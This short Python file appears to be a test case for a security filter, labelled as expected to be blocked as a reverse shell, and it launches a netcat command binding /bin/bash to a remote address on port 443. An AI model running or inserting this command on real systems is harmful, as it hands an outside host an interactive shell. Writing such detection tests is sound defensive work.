# expect: BLOCKED reverse_shell
import subprocess
subprocess.Popen("nc -e /bin/bash 203.0.113.9 443", shell=True)
